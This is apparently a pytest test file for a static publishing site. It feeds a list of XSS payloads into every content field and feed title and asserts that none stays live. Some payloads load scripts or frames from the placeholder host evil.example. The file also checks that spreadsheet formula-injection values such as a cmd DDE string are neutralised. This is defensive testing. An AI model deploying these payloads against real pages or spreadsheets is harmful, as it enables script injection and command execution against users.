"""Whatever an editor writes into a text, nothing of it is live on a page or in a feed."""

from __future__ import annotations

import json
from pathlib import Path

import feedparser
import pytest
from lxml import html
from tests.site import small
from tests.site.reading import read_pages
from tests.site.small import SiteBuild
from tests.site.warm import run_pelican

from openknowledge.catalogue import press_kit
from openknowledge.catalogue.views.base import Number
from openknowledge.counters import history_data
from openknowledge.invisible_text import as_cell

VECTORS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javas&#99;ript:alert(1)>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](  JaVaScRiPt:alert(1) )",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<iframe src=//evil.example></iframe>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<form action=//evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(//evil.example/x)">x</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video><audio src=//evil.example/x.mp3>",
    "<input autofocus onfocus=alert(1)>",
    "<div is=site-search data-src=//evil.example/>",
    "<lazy-video data-src='javascript:alert(1)'></lazy-video>",
    "{{ 7*7 }}{% raw %}{# x #}",
    "${alert(1)} #{7*7} <%= 7*7 %>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!--#exec cmd='id'-->",
    "<!--><script>alert(1)</script-->",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "]]></title><script>alert(1)</script>",
    "{figure:<script>}",
    "<data value='sito.lettori' onclick=alert(1)></data>",
    "<a id=__proto__ name=cookie class=lazy-video>x</a>",
)
"""One text of each kind that has run as a script, a frame or a request somewhere."""

UNNOTICED = """
import sys
sys.path[:0] = ["{root}"]
from pelicanconf import *
from openknowledge.content import read_item
THEME = "{root}/theme"
render = read_item.render_markdown
read_item.render_markdown = lambda *arguments: render(*arguments)._replace(issues=())
"""
"""Settings with which a text that has something left out is no problem, so that its page shows what remains."""


def with_every_text(vector: str, number: int) -> dict[str, str]:
    """Return items that have a text in every field that takes one."""
    flat = json.dumps(vector.replace("\n", " "))
    alt = f"{{it: {flat}, en: {flat}}}"
    course = {
        "title": flat, "abstract": flat, "seo_title": flat, "keywords": f"[{flat}]", "outcomes": f"[{flat}]",
        "requirements": flat, "certificate": flat, "syllabus": f"[{{title: {flat}, text: {flat}}}]", "code": flat,
        "runs": f'[{{key: {flat}, label: {flat}, starts: 2026-02-01}}]', "sources": f"[{{title: {flat}}}]",
        "image": f"{{src: a.png, alt: {alt}, credit: {{author: {flat}, publisher: {flat}}}}}",
    }  # fmt: skip
    contact = f"{{name: {flat}, organisation: {flat}, address: [{flat}]}}"
    press = {"title": flat, "published": "2020-01-02", "standfirst": flat, "place": flat, "contact": contact}
    person = {"title": flat, "affiliation": flat, "links": f'[{{title: {flat}, url: "https://example.org/"}}]'}
    body = f"{vector}\n\nUn *testo*: {vector}\n\n- {vector}\n\n> {vector}\n"
    return {
        f"courses/vector-{number}/index.md": small.front(**course) + body,
        f"press/2020/vector-{number}.md": small.front(**press) + body,
        f"people/vector-{number}.md": small.front(**person) + body,
        f"videos/vector-{number}.md": small.front(title=flat, published="2025-01-01T00:00:00Z", description=flat)
        + body,
    }


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> SiteBuild:
    folder = tmp_path_factory.mktemp("hostile")
    items: dict[str, str] = {}
    for number, vector in enumerate(VECTORS):
        items |= with_every_text(vector, number)
    content = small.small_content(folder, items)
    for number in range(len(VECTORS)):
        (content / f"courses/vector-{number}/a.png").write_bytes(PNG)
    (folder / "conf.py").write_text(UNNOTICED.format(root=small.ROOT))
    small.share_templates(folder / "cache")
    files = {"PROBLEMS_FILE": folder / "problems.json", "CACHE_PATH": folder / "cache"}
    options = [f'{name}="{path}"' for name, path in files.items()]
    arguments = [str(content), "-s", str(folder / "conf.py"), "-o", str(folder / "output"), "-e", "KEEP_GOING=true"]
    done = run_pelican([*arguments, f'BUILD_DATE="{small.TODAY}"', *options])
    assert done.returncode == 0, done.stdout + done.stderr
    return SiteBuild(content, folder / "output", done.stdout, done.stderr)


PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde"
    b"\x00\x00\x00\x0cIDATx\x9cc\xf8\xcf\xc0\x00\x00\x03\x01\x01\x00\xc9\xfe\x92\xef\x00\x00\x00\x00IEND\xaeB`\x82"
)


def test_nothing_of_a_text_is_live_on_a_page(hostile_site: SiteBuild) -> None:
    pages = read_pages(hostile_site.output)
    live = {(page.address, *fault) for page in pages.values() for fault in page.faults if fault.invariant == "code"}
    live |= {
        (page.address, *fault) for page in pages.values() for fault in page.faults if "unsafe scheme" in fault.detail
    }

    assert len(pages) > 4 * len(VECTORS)
    assert sorted(live) == []


def test_titles_of_feeds_are_text_in_both_formats(hostile_site: SiteBuild) -> None:
    """Readers take a title of RSS for markup, and one of Atom for what its type says: text."""
    shown: dict[str, set[str]] = {"rss": set(), "atom": set()}
    for path in hostile_site.output.rglob("*.xml"):
        feed = feedparser.parse(path.read_bytes())
        assert not feed.bozo, feed.bozo_exception
        for entry in feed.entries:
            title = entry.title_detail
            text = html.fromstring(f"<p>{title.value}</p>").text_content() if title.type == "text/html" else title.value
            shown[path.name.split(".")[-2]].add(" ".join(text.split()))

    assert "<script>alert(1)</script>" in shown["rss"]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown["rss"]
    assert shown["rss"] == shown["atom"]


def test_problems_are_named_and_only_those(hostile_site: SiteBuild) -> None:
    problems = json.loads((hostile_site.output.parent / "problems.json").read_text())

    assert [problem for problem in problems if "stumble" in problem["message"]] == []
    assert {Path(problem["path"]).suffix for problem in problems} <= {".md"}


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1"),
        ("-1+1", "'-1+1"),
        (" @SUM(A1)", " '@SUM(A1)"),
        ("\t=1", "\t'=1"),
        ("＝1", "'＝1"),
        ("Ateneo, =1;+2", "Ateneo, '=1;'+2"),
        ("a=b, c - d", "a=b, c - d"),
        ("# source: 1 = 1", "# source: 1 = 1"),
    ],
)
def test_no_text_of_a_table_is_a_formula_of_a_spreadsheet(text: str, cell: str) -> None:
    assert as_cell(text) == cell


def test_the_tables_of_figures_and_of_histories_have_no_formula() -> None:
    evil = "=1+1"
    figure = Number(name="a.b", text=evil, short=evil, label=evil, definition=evil, is_known=True, source="x;=1+1")

    assert "'=1+1,'=1+1,'=1+1,,x;'=1+1," in press_kit._figures((figure,))
    assert history_data._note("source", "x,=1+1") == "# source: x,'=1+1"
